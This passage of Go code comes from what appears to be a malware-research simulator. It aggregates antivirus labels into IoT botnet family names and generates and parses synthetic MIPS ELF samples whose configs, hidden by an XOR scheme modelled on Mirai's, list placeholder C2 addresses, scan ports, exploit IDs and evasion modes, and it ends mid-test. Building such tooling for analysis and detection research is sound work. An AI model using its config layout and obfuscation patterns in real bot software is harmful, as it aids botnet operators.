var genericTokens = map[string]bool{
	"linux": true, "unix": true, "elf": true, "mips": true,
	"trojan": true, "backdoor": true, "worm": true, "virus": true,
	"malware": true, "agent": true, "generic": true, "gen": true,
	"variant": true, "heur": true, "riskware": true, "ddos": true,
	"bot": true, "botnet": true, "malicious": true, "suspicious": true,
	"a": true, "b": true, "c": true, "tr": true, "sm": true,
}

// knownFamilies anchor normalization: tokens that are prefixes or
// aliases of these map onto them.
var knownFamilies = []string{
	"mirai", "gafgyt", "tsunami", "daddyl33t", "mozi", "hajime", "vpnfilter",
}

// aliases maps vendor-specific names to canonical families (bashlite
// and qbot are the common ones for this corpus).
var aliases = map[string]string{
	"bashlite": "gafgyt",
	"lizkebab": "gafgyt",
	"torlus":   "gafgyt",
	"kaiten":   "tsunami",
	"qbot":     "daddyl33t",
}

// Tokenize splits a raw label into normalized candidate tokens.
func Tokenize(label string) []string {
	f := func(r rune) bool {
		return !('a' <= r && r <= 'z' || 'A' <= r && r <= 'Z' ||
			'0' <= r && r <= '9')
	}
	var out []string
	for _, tok := range strings.FieldsFunc(label, f) {
		tok = strings.ToLower(tok)
		if len(tok) < 2 || genericTokens[tok] {
			continue
		}
		if canon, ok := aliases[tok]; ok {
			tok = canon
		}
		out = append(out, tok)
	}
	return out
}

// Label aggregates vendor detections and returns the plurality
// family and the number of vendors that voted for it. Tokens
// matching a known family count first; if none match, the most
// common non-generic token wins. Ties break lexicographically for
// determinism.
func Label(dets []Detection) (family string, votes int) {
	counts := map[string]int{}
	for _, d := range dets {
		seen := map[string]bool{} // one vote per vendor per token
		for _, tok := range Tokenize(d.Label) {
			for _, fam := range knownFamilies {
				if strings.HasPrefix(tok, fam) {
					tok = fam
					break
				}
			}
			if !seen[tok] {
				seen[tok] = true
				counts[tok]++
			}
		}
	}
	type kv struct {
		tok string
		n   int
	}
	var ranked []kv
	for tok, n := range counts {
		ranked = append(ranked, kv{tok, n})
	}
	sort.Slice(ranked, func(i, j int) bool {
		if ranked[i].n != ranked[j].n {
			return ranked[i].n > ranked[j].n
		}
		return ranked[i].tok < ranked[j].tok
	})
	known := map[string]bool{}
	for _, fam := range knownFamilies {
		known[fam] = true
	}
	for _, r := range ranked {
		if known[r.tok] {
			return r.tok, r.n
		}
	}
	if len(ranked) > 0 {
		return ranked[0].tok, ranked[0].n
	}
	return "", 0
}

// MaliciousCount returns how many detections are non-empty — the
// "corroboration of at least 5 malware detection engines" check from
// the paper's collection methodology.
func MaliciousCount(dets []Detection) int {
	n := 0
	for _, d := range dets {
		if strings.TrimSpace(d.Label) != "" {
			n++
		}
	}
	return n
}
