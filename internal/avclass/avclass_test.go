package avclass

import (
	"testing"
)

func TestTokenizeDropsGenerics(t *testing.T) {
	toks := Tokenize("Trojan:Linux/Mirai.SM!tr")
	if len(toks) != 1 || toks[0] != "mirai" {
		t.Fatalf("tokens = %v", toks)
	}
}

func TestTokenizeAppliesAliases(t *testing.T) {
	toks := Tokenize("Linux.Bashlite.Gen")
	if len(toks) != 1 || toks[0] != "gafgyt" {
		t.Fatalf("tokens = %v", toks)
	}
}

func TestLabelPluralityWins(t *testing.T) {
	dets := []Detection{
		{Vendor: "a", Label: "Linux/Mirai.B"},
		{Vendor: "b", Label: "Trojan.Mirai!gen"},
		{Vendor: "c", Label: "ELF:Gafgyt-X"},
	}
	fam, votes := Label(dets)
	if fam != "mirai" || votes != 2 {
		t.Fatalf("Label = %q, %d", fam, votes)
	}
}

func TestLabelPrefixFoldsVariants(t *testing.T) {
	dets := []Detection{
		{Vendor: "a", Label: "Linux.Miraix.A"},
		{Vendor: "b", Label: "Mirai2022"},
	}
	fam, votes := Label(dets)
	if fam != "mirai" || votes != 2 {
		t.Fatalf("Label = %q, %d", fam, votes)
	}
}

func TestLabelKnownFamilyBeatsUnknownToken(t *testing.T) {
	dets := []Detection{
		{Vendor: "a", Label: "Foobarware"},
		{Vendor: "b", Label: "Foobarware"},
		{Vendor: "c", Label: "Linux.Gafgyt"},
	}
	fam, _ := Label(dets)
	if fam != "gafgyt" {
		t.Fatalf("Label = %q, want gafgyt", fam)
	}
}

func TestLabelUnknownTokenFallback(t *testing.T) {
	dets := []Detection{
		{Vendor: "a", Label: "Linux.Newfam.A"},
		{Vendor: "b", Label: "newfam!gen"},
	}
	fam, votes := Label(dets)
	if fam != "newfam" || votes != 2 {
		t.Fatalf("Label = %q, %d", fam, votes)
	}
}

func TestLabelEmpty(t *testing.T) {
	fam, votes := Label(nil)
	if fam != "" || votes != 0 {
		t.Fatalf("Label(nil) = %q, %d", fam, votes)
	}
}

func TestLabelDeterministicTieBreak(t *testing.T) {
	dets := []Detection{
		{Vendor: "a", Label: "mirai"},
		{Vendor: "b", Label: "gafgyt"},
	}
	for i := 0; i < 20; i++ {
		fam, _ := Label(dets)
		if fam != "gafgyt" { // lexicographic tie-break
			t.Fatalf("tie-break unstable: %q", fam)
		}
	}
}

func TestOneVotePerVendorPerToken(t *testing.T) {
	dets := []Detection{
		{Vendor: "a", Label: "Mirai.Mirai.Mirai"},
		{Vendor: "b", Label: "Gafgyt"},
		{Vendor: "c", Label: "Gafgyt"},
	}
	fam, votes := Label(dets)
	if fam != "gafgyt" || votes != 2 {
		t.Fatalf("Label = %q, %d; repeated tokens must not stack votes", fam, votes)
	}
}

func TestMaliciousCount(t *testing.T) {
	dets := []Detection{
		{Vendor: "a", Label: "Mirai"},
		{Vendor: "b", Label: ""},
		{Vendor: "c", Label: "  "},
		{Vendor: "d", Label: "Gafgyt"},
	}
	if n := MaliciousCount(dets); n != 2 {
		t.Fatalf("MaliciousCount = %d, want 2", n)
	}
}

func TestMoziMisclassifiedAsMiraiWhenVendorsSayMirai(t *testing.T) {
	// The paper: "all the instances of the Mozi family ... are
	// wrongly classified as Mirai" because vendors label them so.
	dets := []Detection{
		{Vendor: "a", Label: "Linux.Mirai.B"},
		{Vendor: "b", Label: "Mirai.Mozi"},
		{Vendor: "c", Label: "ELF/Mirai!tr"},
	}
	fam, _ := Label(dets)
	if fam != "mirai" {
		t.Fatalf("Label = %q, want mirai (the documented misclassification)", fam)
	}
}
