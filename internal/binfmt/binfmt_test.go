package binfmt

import (
	"math/rand"
	"strings"
	"testing"
	"testing/quick"
)

func sampleConfig() BotConfig {
	return BotConfig{
		Family:     "mirai",
		Variant:    "v1",
		C2Addrs:    []string{"203.0.113.10:23"},
		ScanPorts:  []uint16{23, 2323},
		ExploitIDs: []string{"CVE-2018-10561"},
		LoaderName: "t8UsA2.sh",
	}
}

func mustEncode(t *testing.T, cfg BotConfig, seed int64, extra []string) []byte {
	t.Helper()
	raw, err := Encode(cfg, rand.New(rand.NewSource(seed)), extra)
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

func TestEncodeParseRoundTrip(t *testing.T) {
	raw := mustEncode(t, sampleConfig(), 1, nil)
	b, err := Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	cfg, err := ExtractConfig(b)
	if err != nil {
		t.Fatal(err)
	}
	if cfg.Family != "mirai" || cfg.Variant != "v1" {
		t.Fatalf("config = %+v", cfg)
	}
	if len(cfg.C2Addrs) != 1 || cfg.C2Addrs[0] != "203.0.113.10:23" {
		t.Fatalf("c2 = %v", cfg.C2Addrs)
	}
	if cfg.LoaderName != "t8UsA2.sh" {
		t.Fatalf("loader = %q", cfg.LoaderName)
	}
}

func TestELFHeaderIsMIPS32BE(t *testing.T) {
	raw := mustEncode(t, sampleConfig(), 1, nil)
	if raw[0] != 0x7f || string(raw[1:4]) != "ELF" {
		t.Fatal("missing ELF magic")
	}
	if raw[4] != 1 {
		t.Fatal("not ELFCLASS32")
	}
	if raw[5] != 2 {
		t.Fatal("not big-endian")
	}
	if raw[18] != 0 || raw[19] != 8 {
		t.Fatal("machine is not EM_MIPS")
	}
}

func TestDistinctSeedsDistinctHashes(t *testing.T) {
	a := mustEncode(t, sampleConfig(), 1, nil)
	b := mustEncode(t, sampleConfig(), 2, nil)
	pa, _ := Parse(a)
	pb, _ := Parse(b)
	if pa.SHA256 == pb.SHA256 {
		t.Fatal("different seeds produced identical hashes")
	}
}

func TestSameSeedDeterministic(t *testing.T) {
	a := mustEncode(t, sampleConfig(), 7, nil)
	b := mustEncode(t, sampleConfig(), 7, nil)
	pa, _ := Parse(a)
	pb, _ := Parse(b)
	if pa.SHA256 != pb.SHA256 {
		t.Fatal("same seed produced different binaries")
	}
}

func TestFamilyStringsVisibleToStrings(t *testing.T) {
	raw := mustEncode(t, sampleConfig(), 1, []string{"extra-artifact.sh"})
	found := map[string]bool{}
	for _, s := range Strings(raw, 4) {
		found[s] = true
	}
	for _, want := range []string{"/bin/busybox MIRAI", "TSource Engine Query", "extra-artifact.sh"} {
		if !found[want] {
			t.Fatalf("string %q not extracted", want)
		}
	}
}

func TestConfigNotVisibleToStrings(t *testing.T) {
	raw := mustEncode(t, sampleConfig(), 1, nil)
	for _, s := range Strings(raw, 4) {
		if strings.Contains(s, "203.0.113.10") {
			t.Fatalf("C2 address leaked to strings output: %q", s)
		}
	}
}

func TestParseRejectsGarbage(t *testing.T) {
	if _, err := Parse([]byte("MZ not an elf at all")); err != ErrNotELF {
		t.Fatalf("err = %v, want ErrNotELF", err)
	}
}

func TestParseRejectsWrongMachine(t *testing.T) {
	raw := mustEncode(t, sampleConfig(), 1, nil)
	raw[19] = 0x3e // EM_X86_64
	if _, err := Parse(raw); err != ErrNotMIPS32BE {
		t.Fatalf("err = %v, want ErrNotMIPS32BE", err)
	}
}

func TestParseRejectsLittleEndian(t *testing.T) {
	raw := mustEncode(t, sampleConfig(), 1, nil)
	raw[5] = 1 // ELFDATA2LSB
	if _, err := Parse(raw); err != ErrNotMIPS32BE {
		t.Fatalf("err = %v, want ErrNotMIPS32BE", err)
	}
}

func TestParseRejectsTruncatedSectionTable(t *testing.T) {
	raw := mustEncode(t, sampleConfig(), 1, nil)
	if _, err := Parse(raw[:len(raw)-30]); err == nil {
		t.Fatal("truncated section table accepted")
	}
}

func TestExtractConfigMissingSection(t *testing.T) {
	raw := buildELF([]Section{{Name: ".text", Data: make([]byte, 64)}})
	b, err := Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ExtractConfig(b); err != ErrNoConfig {
		t.Fatalf("err = %v, want ErrNoConfig", err)
	}
}

func TestValidateRejectsMissingC2(t *testing.T) {
	cfg := BotConfig{Family: "gafgyt"}
	if err := cfg.Validate(); err == nil {
		t.Fatal("non-P2P config without C2 validated")
	}
	cfg.P2P = true
	if err := cfg.Validate(); err != nil {
		t.Fatalf("P2P config rejected: %v", err)
	}
}

func TestP2PFamilyRoundTrip(t *testing.T) {
	cfg := BotConfig{Family: "mozi", Variant: "v1", P2P: true, ScanPorts: []uint16{23}}
	raw := mustEncode(t, cfg, 3, nil)
	b, _ := Parse(raw)
	got, err := ExtractConfig(b)
	if err != nil {
		t.Fatal(err)
	}
	if !got.P2P || got.Family != "mozi" {
		t.Fatalf("config = %+v", got)
	}
}

func TestStringsMinimumLength(t *testing.T) {
	raw := []byte("ab\x00abcd\x00abcdefgh")
	got := Strings(raw, 4)
	if len(got) != 2 || got[0] != "abcd" || got[1] != "abcdefgh" {
		t.Fatalf("got %v", got)
	}
}

func TestXORObfuscationInvolution(t *testing.T) {
	f := func(data []byte) bool {
		round := xorObfuscate(xorObfuscate(data))
		if len(round) != len(data) {
			return false
		}
		for i := range data {
			if round[i] != data[i] {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

// Property: any valid config round-trips through a full
// encode/parse/extract cycle.
func TestQuickConfigRoundTrip(t *testing.T) {
	f := func(seed int64, nPorts uint8, variant uint8) bool {
		cfg := BotConfig{
			Family:  "gafgyt",
			Variant: string(rune('a' + variant%26)),
			C2Addrs: []string{"198.51.100.1:6667"},
		}
		for i := 0; i < int(nPorts%8); i++ {
			cfg.ScanPorts = append(cfg.ScanPorts, uint16(23+i))
		}
		raw, err := Encode(cfg, rand.New(rand.NewSource(seed)), nil)
		if err != nil {
			return false
		}
		b, err := Parse(raw)
		if err != nil {
			return false
		}
		got, err := ExtractConfig(b)
		if err != nil {
			return false
		}
		return got.Variant == cfg.Variant && len(got.ScanPorts) == len(cfg.ScanPorts)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 25}); err != nil {
		t.Fatal(err)
	}
}

func TestSniffArch(t *testing.T) {
	mips := mustEncode(t, sampleConfig(), 1, nil)
	if a, err := SniffArch(mips); err != nil || a != ArchMIPS32BE {
		t.Fatalf("mips sniff = %v, %v", a, err)
	}
	for _, arch := range []Arch{ArchARM32LE, ArchX86_64} {
		raw, err := EncodeForeign(arch, rand.New(rand.NewSource(2)))
		if err != nil {
			t.Fatal(err)
		}
		got, err := SniffArch(raw)
		if err != nil || got != arch {
			t.Fatalf("%v sniff = %v, %v", arch, got, err)
		}
		// The full parser must reject it.
		if _, err := Parse(raw); err == nil {
			t.Fatalf("%v parsed as MIPS", arch)
		}
	}
	if _, err := SniffArch([]byte("not an elf")); err != ErrNotELF {
		t.Fatalf("garbage sniff err = %v", err)
	}
	if ArchMIPS32BE.String() != "mips32-be" || ArchX86_64.String() != "x86-64" {
		t.Fatal("arch names wrong")
	}
}

func TestEncodeForeignRejectsMIPS(t *testing.T) {
	if _, err := EncodeForeign(ArchMIPS32BE, rand.New(rand.NewSource(1))); err == nil {
		t.Fatal("EncodeForeign accepted MIPS")
	}
}
