package binfmt

import (
	"encoding/json"
	"fmt"
	"math/rand"

	"malnet/internal/c2"
)

// xorKey obfuscates the .botcfg section, mirroring Mirai's table
// encryption: enough that the config is not visible to strings(1),
// while the "emulator" that knows the scheme recovers it.
var xorKey = []byte{0xde, 0xad, 0xbe, 0xef}

func xorObfuscate(b []byte) []byte {
	out := make([]byte, len(b))
	for i, c := range b {
		out[i] = c ^ xorKey[i%len(xorKey)]
	}
	return out
}

// BotConfig is the behavioral configuration baked into a synthetic
// sample. It is what a dynamic-analysis run elicits: which C2 the bot
// calls home to, what it scans, which exploits it fires.
type BotConfig struct {
	// Family is the malware family name (e.g. "mirai").
	Family string `json:"family"`
	// Variant distinguishes forks within a family (the paper
	// tracks 2 variants per attack-launching family).
	Variant string `json:"variant"`
	// C2Addrs are the C2 endpoints the bot calls home to, in
	// priority order. Each is "host:port" where host is an IPv4
	// literal or a DNS name.
	C2Addrs []string `json:"c2,omitempty"`
	// P2P marks families (Mozi, Hajime) with no client-server C2.
	P2P bool `json:"p2p,omitempty"`
	// ScanPorts are the TCP ports the bot scans for victims.
	ScanPorts []uint16 `json:"scan_ports,omitempty"`
	// ExploitIDs name entries in the vulnerability catalog the bot
	// fires at fake victims (Table 4).
	ExploitIDs []string `json:"exploits,omitempty"`
	// LoaderName is the first-stage payload filename in the
	// exploit template (Figure 9).
	LoaderName string `json:"loader,omitempty"`
	// DownloaderAddr is "host:port" of the malware-hosting server
	// referenced by the exploits.
	DownloaderAddr string `json:"downloader,omitempty"`
	// Evasion selects the sample's anti-sandbox gate (§6f):
	// "" (none), "connectivity" (requires a working Internet path,
	// defeated by InetSim-style fakes), or "strict" (detects
	// resolve-everything fake DNS and aborts).
	Evasion string `json:"evasion,omitempty"`
}

// Validate checks internal consistency.
func (c *BotConfig) Validate() error {
	if c.Family == "" {
		return fmt.Errorf("binfmt: config missing family")
	}
	if !c.P2P && len(c.C2Addrs) == 0 {
		return fmt.Errorf("binfmt: non-P2P config for %s missing C2 address", c.Family)
	}
	return nil
}

// Encode builds a complete synthetic sample: valid MIPS-BE ELF with
// deterministic .text filler (seeded by rng), the family's
// characteristic strings in .rodata, and the obfuscated config in
// .botcfg. extraStrings lets the world generator add per-sample
// artifacts (loader names, exploit paths) that triage tools see.
func Encode(cfg BotConfig, rng *rand.Rand, extraStrings []string) ([]byte, error) {
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	cfgJSON, err := json.Marshal(cfg)
	if err != nil {
		return nil, fmt.Errorf("binfmt: marshal config: %w", err)
	}

	// .text: pseudo-random "code" 8-64 KiB, varying per sample so
	// hashes differ even for identical configs.
	textLen := 8192 + rng.Intn(57344)
	text := make([]byte, textLen)
	rng.Read(text)
	// Scrub accidental printable runs longer than 3 so string
	// triage sees only .rodata.
	run := 0
	for i := range text {
		if text[i] >= 0x20 && text[i] < 0x7f {
			run++
			if run > 3 {
				text[i] = 0
				run = 0
			}
		} else {
			run = 0
		}
	}

	var rodata []byte
	for _, s := range familyStrings(cfg.Family) {
		rodata = append(rodata, s...)
		rodata = append(rodata, 0)
	}
	for _, s := range extraStrings {
		rodata = append(rodata, s...)
		rodata = append(rodata, 0)
	}

	raw := buildELF([]Section{
		{Name: ".text", Data: text},
		{Name: ".rodata", Data: rodata},
		{Name: ".botcfg", Data: xorObfuscate(cfgJSON)},
	})
	return raw, nil
}

// ExtractConfig recovers the behavioral configuration from a parsed
// sample — the binfmt-level equivalent of activating it.
func ExtractConfig(b *Binary) (*BotConfig, error) {
	sec := b.Section(".botcfg")
	if sec == nil {
		return nil, ErrNoConfig
	}
	var cfg BotConfig
	if err := json.Unmarshal(xorObfuscate(sec), &cfg); err != nil {
		return nil, fmt.Errorf("binfmt: decode config: %w", err)
	}
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	return &cfg, nil
}

// familyStrings returns the characteristic .rodata artifacts each
// family's real samples carry, from its protocol spec; the YARA
// rules in internal/yara key on these. Families outside the spec
// registry get the shared busybox-dropper tooling strings only.
func familyStrings(family string) []string {
	if p, ok := c2.Lookup(family); ok {
		if a := p.Spec().Artifacts; len(a) > 0 {
			return a
		}
	}
	return []string{
		"/bin/busybox", "/proc/net/tcp", "/dev/watchdog", "/dev/null",
		"enable", "system", "shell", "sh", "ps", "GET /%s HTTP/1.0",
	}
}

// EncodeForeign builds a non-MIPS decoy binary: a structurally
// plausible ELF for another architecture, as real feeds deliver
// alongside MIPS samples. The collection filter (§2.2) must skip
// these; they are never parsed beyond SniffArch.
func EncodeForeign(arch Arch, rng *rand.Rand) ([]byte, error) {
	if arch == ArchMIPS32BE {
		return nil, fmt.Errorf("binfmt: EncodeForeign is for non-MIPS architectures")
	}
	raw, err := Encode(BotConfig{
		Family: "gafgyt", Variant: "v1", C2Addrs: []string{"192.0.2.1:23"},
	}, rng, nil)
	if err != nil {
		return nil, err
	}
	class, data, machine := arch.elfIdent()
	raw[4], raw[5] = class, data
	// e_machine is stored in the file's byte order.
	if data == elfData2MSB {
		raw[18], raw[19] = byte(machine>>8), byte(machine)
	} else {
		raw[18], raw[19] = byte(machine), byte(machine>>8)
	}
	return raw, nil
}
