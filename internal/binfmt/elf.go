// Package binfmt encodes and parses the synthetic MIPS 32-bit
// big-endian ELF malware binaries the simulated feeds distribute.
//
// The paper's pipeline consumes real MIPS 32B samples; here a sample
// is a structurally valid ELF32/EM_MIPS executable whose .text is
// deterministic filler, whose .rodata carries the family's
// characteristic strings (what YARA rules and strings(1) triage key
// on), and whose .botcfg section carries an XOR-obfuscated behavioral
// configuration (family, C2 addresses, scan ports, exploits) that the
// sandbox's emulator recovers when it "executes" the sample — the
// stand-in for behavior a real emulator would elicit from real code.
package binfmt

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
)

// ELF constants for the subset this package handles.
const (
	elfClass32   = 1
	elfData2MSB  = 2 // big-endian
	elfTypeExec  = 2
	elfMachMIPS  = 8
	ehSize       = 52
	phEntSize    = 32
	shEntSize    = 40
	baseVaddr    = 0x00400000
	textAlign    = 16
	shtProgbits  = 1
	shtStrtab    = 3
	shfAlloc     = 0x2
	shfExecinstr = 0x4
)

// Parse errors.
var (
	ErrNotELF      = errors.New("binfmt: not an ELF file")
	ErrNotMIPS32BE = errors.New("binfmt: not a MIPS 32-bit big-endian executable")
	ErrCorrupt     = errors.New("binfmt: corrupt section table")
	ErrNoConfig    = errors.New("binfmt: no .botcfg section")
)

// Arch identifies a binary's target architecture. The study only
// analyzes ArchMIPS32BE (§2.2: "We were able to collect 1447 MIPS
// 32B malware binaries"); other architectures appear in real feeds
// and are filtered at collection.
type Arch uint8

// Supported encoding architectures.
const (
	ArchMIPS32BE Arch = iota
	ArchARM32LE
	ArchX86_64
)

// String names the architecture as feeds do.
func (a Arch) String() string {
	switch a {
	case ArchMIPS32BE:
		return "mips32-be"
	case ArchARM32LE:
		return "arm32-le"
	case ArchX86_64:
		return "x86-64"
	}
	return "unknown"
}

// elfIdent returns (class, data, machine) for the arch.
func (a Arch) elfIdent() (byte, byte, uint16) {
	switch a {
	case ArchARM32LE:
		return elfClass32, 1 /* LSB */, 0x28 /* EM_ARM */
	case ArchX86_64:
		return 2 /* ELFCLASS64 */, 1, 0x3e /* EM_X86_64 */
	}
	return elfClass32, elfData2MSB, elfMachMIPS
}

// SniffArch inspects only the ELF identity bytes, the way a
// collection pipeline triages a feed download before deeper
// parsing.
func SniffArch(raw []byte) (Arch, error) {
	if len(raw) < 20 || raw[0] != 0x7f || raw[1] != 'E' || raw[2] != 'L' || raw[3] != 'F' {
		return 0, ErrNotELF
	}
	var machine uint16
	if raw[5] == elfData2MSB {
		machine = binary.BigEndian.Uint16(raw[18:])
	} else {
		machine = binary.LittleEndian.Uint16(raw[18:])
	}
	switch {
	case raw[4] == elfClass32 && raw[5] == elfData2MSB && machine == elfMachMIPS:
		return ArchMIPS32BE, nil
	case raw[4] == elfClass32 && raw[5] == 1 && machine == 0x28:
		return ArchARM32LE, nil
	case raw[4] == 2 && raw[5] == 1 && machine == 0x3e:
		return ArchX86_64, nil
	}
	return 0, ErrNotMIPS32BE
}

// Section is a named byte range of the binary.
type Section struct {
	Name string
	Data []byte
}

// Binary is a parsed sample.
type Binary struct {
	// SHA256 is the hex digest of the raw bytes, the sample's
	// identity across the pipeline (as in VT/MalwareBazaar).
	SHA256 string
	// Entry is the ELF entry point.
	Entry uint32
	// Sections are the parsed sections in file order.
	Sections []Section
	raw      []byte
}

// Size returns the file size in bytes.
func (b *Binary) Size() int { return len(b.raw) }

// Bytes returns the raw file contents.
func (b *Binary) Bytes() []byte { return b.raw }

// Section returns the named section's data, or nil.
func (b *Binary) Section(name string) []byte {
	for _, s := range b.Sections {
		if s.Name == name {
			return s.Data
		}
	}
	return nil
}

// buildELF assembles a minimal but structurally valid ELF32 MIPS-BE
// executable from the given sections (which must include .text).
func buildELF(sections []Section) []byte {
	// Layout: ehdr | phdr | section data... | .shstrtab | shdrs
	shstr := []byte{0}
	nameOff := map[string]uint32{}
	for _, s := range sections {
		nameOff[s.Name] = uint32(len(shstr))
		shstr = append(shstr, s.Name...)
		shstr = append(shstr, 0)
	}
	nameOff[".shstrtab"] = uint32(len(shstr))
	shstr = append(shstr, ".shstrtab"...)
	shstr = append(shstr, 0)

	off := uint32(ehSize + phEntSize)
	type placed struct {
		Section
		off, vaddr uint32
	}
	var body []byte
	var placedSecs []placed
	vaddr := uint32(baseVaddr + ehSize + phEntSize)
	for _, s := range sections {
		for off%textAlign != 0 {
			body = append(body, 0)
			off++
			vaddr++
		}
		placedSecs = append(placedSecs, placed{s, off, vaddr})
		body = append(body, s.Data...)
		off += uint32(len(s.Data))
		vaddr += uint32(len(s.Data))
	}
	shstrOff := off
	body = append(body, shstr...)
	off += uint32(len(shstr))
	shoff := off

	shnum := len(sections) + 2 // NULL + sections + .shstrtab
	out := make([]byte, 0, int(off)+shnum*shEntSize)

	// ELF header.
	eh := make([]byte, ehSize)
	copy(eh, []byte{0x7f, 'E', 'L', 'F', elfClass32, elfData2MSB, 1, 0})
	be := binary.BigEndian
	be.PutUint16(eh[16:], elfTypeExec)
	be.PutUint16(eh[18:], elfMachMIPS)
	be.PutUint32(eh[20:], 1)                          // version
	be.PutUint32(eh[24:], baseVaddr+ehSize+phEntSize) // entry = start of .text
	be.PutUint32(eh[28:], ehSize)                     // phoff
	be.PutUint32(eh[32:], shoff)                      // shoff
	be.PutUint32(eh[36:], 0x70001000)                 // flags: EF_MIPS_ARCH_32 | NOREORDER-ish
	be.PutUint16(eh[40:], ehSize)
	be.PutUint16(eh[42:], phEntSize)
	be.PutUint16(eh[44:], 1) // phnum
	be.PutUint16(eh[46:], shEntSize)
	be.PutUint16(eh[48:], uint16(shnum))
	be.PutUint16(eh[50:], uint16(shnum-1)) // shstrndx
	out = append(out, eh...)

	// One PT_LOAD covering the file.
	ph := make([]byte, phEntSize)
	be.PutUint32(ph[0:], 1) // PT_LOAD
	be.PutUint32(ph[4:], 0)
	be.PutUint32(ph[8:], baseVaddr)
	be.PutUint32(ph[12:], baseVaddr)
	be.PutUint32(ph[16:], shstrOff) // filesz: loadable part
	be.PutUint32(ph[20:], shstrOff)
	be.PutUint32(ph[24:], 0x7) // RWX, as IoT malware ships
	be.PutUint32(ph[28:], 0x1000)
	out = append(out, ph...)
	out = append(out, body...)

	// Section headers.
	sh := make([]byte, shEntSize) // SHT_NULL
	out = append(out, sh...)
	for _, p := range placedSecs {
		sh := make([]byte, shEntSize)
		be.PutUint32(sh[0:], nameOff[p.Name])
		be.PutUint32(sh[4:], shtProgbits)
		flags := uint32(shfAlloc)
		if p.Name == ".text" {
			flags |= shfExecinstr
		}
		be.PutUint32(sh[8:], flags)
		be.PutUint32(sh[12:], p.vaddr)
		be.PutUint32(sh[16:], p.off)
		be.PutUint32(sh[20:], uint32(len(p.Data)))
		be.PutUint32(sh[32:], textAlign)
		out = append(out, sh...)
	}
	sh = make([]byte, shEntSize)
	be.PutUint32(sh[0:], nameOff[".shstrtab"])
	be.PutUint32(sh[4:], shtStrtab)
	be.PutUint32(sh[16:], shstrOff)
	be.PutUint32(sh[20:], uint32(len(shstr)))
	be.PutUint32(sh[32:], 1)
	out = append(out, sh...)
	return out
}

// Parse validates an ELF32 MIPS-BE executable and extracts its
// sections.
func Parse(raw []byte) (*Binary, error) {
	if len(raw) < ehSize || raw[0] != 0x7f || raw[1] != 'E' || raw[2] != 'L' || raw[3] != 'F' {
		return nil, ErrNotELF
	}
	if raw[4] != elfClass32 || raw[5] != elfData2MSB {
		return nil, ErrNotMIPS32BE
	}
	be := binary.BigEndian
	if be.Uint16(raw[18:]) != elfMachMIPS || be.Uint16(raw[16:]) != elfTypeExec {
		return nil, ErrNotMIPS32BE
	}
	shoff := be.Uint32(raw[32:])
	shnum := int(be.Uint16(raw[48:]))
	shstrndx := int(be.Uint16(raw[50:]))
	if shnum == 0 || shstrndx >= shnum {
		return nil, ErrCorrupt
	}
	readShdr := func(i int) (nameOff, typ, off, size uint32, err error) {
		base := int(shoff) + i*shEntSize
		if base+shEntSize > len(raw) {
			return 0, 0, 0, 0, ErrCorrupt
		}
		return be.Uint32(raw[base:]), be.Uint32(raw[base+4:]), be.Uint32(raw[base+16:]), be.Uint32(raw[base+20:]), nil
	}
	_, _, strOff, strSize, err := readShdr(shstrndx)
	if err != nil {
		return nil, err
	}
	if int(strOff)+int(strSize) > len(raw) {
		return nil, ErrCorrupt
	}
	strtab := raw[strOff : strOff+strSize]
	secName := func(nameOff uint32) string {
		if int(nameOff) >= len(strtab) {
			return ""
		}
		end := nameOff
		for int(end) < len(strtab) && strtab[end] != 0 {
			end++
		}
		return string(strtab[nameOff:end])
	}
	sum := sha256.Sum256(raw)
	b := &Binary{
		SHA256: hex.EncodeToString(sum[:]),
		Entry:  be.Uint32(raw[24:]),
		raw:    raw,
	}
	for i := 1; i < shnum; i++ {
		nameOff, typ, off, size, err := readShdr(i)
		if err != nil {
			return nil, err
		}
		if typ != shtProgbits {
			continue
		}
		if int(off)+int(size) > len(raw) {
			return nil, fmt.Errorf("%w: section %d out of bounds", ErrCorrupt, i)
		}
		b.Sections = append(b.Sections, Section{Name: secName(nameOff), Data: raw[off : off+size]})
	}
	return b, nil
}

// Strings extracts printable-ASCII runs of at least min bytes, like
// strings(1); the triage path uses it for family hints.
func Strings(raw []byte, min int) []string {
	if min < 1 {
		min = 4
	}
	var out []string
	start := -1
	for i, c := range raw {
		printable := c >= 0x20 && c < 0x7f
		if printable && start < 0 {
			start = i
		}
		if !printable && start >= 0 {
			if i-start >= min {
				out = append(out, string(raw[start:i]))
			}
			start = -1
		}
	}
	if start >= 0 && len(raw)-start >= min {
		out = append(out, string(raw[start:]))
	}
	return out
}
