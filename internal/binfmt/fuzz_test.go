package binfmt

import (
	"math/rand"
	"testing"
)

// fuzzSeedCorpus builds representative encoder outputs: the shapes
// the collection filter actually downloads, which the mutator then
// truncates and corrupts.
func fuzzSeedCorpus(f *testing.F) [][]byte {
	f.Helper()
	rng := rand.New(rand.NewSource(1))
	var corpus [][]byte
	for _, cfg := range []BotConfig{
		{Family: "mirai", Variant: "v1", C2Addrs: []string{"cnc.example.net:23"},
			ScanPorts: []uint16{23, 2323}, ExploitIDs: []string{"gpon-8080"},
			LoaderName: "mips.bot", DownloaderAddr: "203.0.113.9:80"},
		{Family: "gafgyt", Variant: "v2", C2Addrs: []string{"198.51.100.7:443"},
			Evasion: "strict"},
		{Family: "mozi", Variant: "v1", P2P: true, ScanPorts: []uint16{23}},
	} {
		raw, err := Encode(cfg, rng, []string{"/tmp/loader.sh"})
		if err != nil {
			f.Fatalf("encoding corpus sample: %v", err)
		}
		corpus = append(corpus, raw)
	}
	foreign, err := EncodeForeign(ArchARM32LE, rng)
	if err != nil {
		f.Fatalf("encoding foreign corpus sample: %v", err)
	}
	return append(corpus, foreign)
}

// FuzzParseELF asserts the feed-facing parsing surface never panics:
// the collection filter runs SniffArch and Parse on every downloaded
// blob, and the sandbox runs ExtractConfig on everything Parse
// accepts, so all three must degrade to errors on hostile bytes.
func FuzzParseELF(f *testing.F) {
	for _, raw := range fuzzSeedCorpus(f) {
		f.Add(raw)
		// Truncations at structure boundaries: mid-ident,
		// mid-header, mid-section-table.
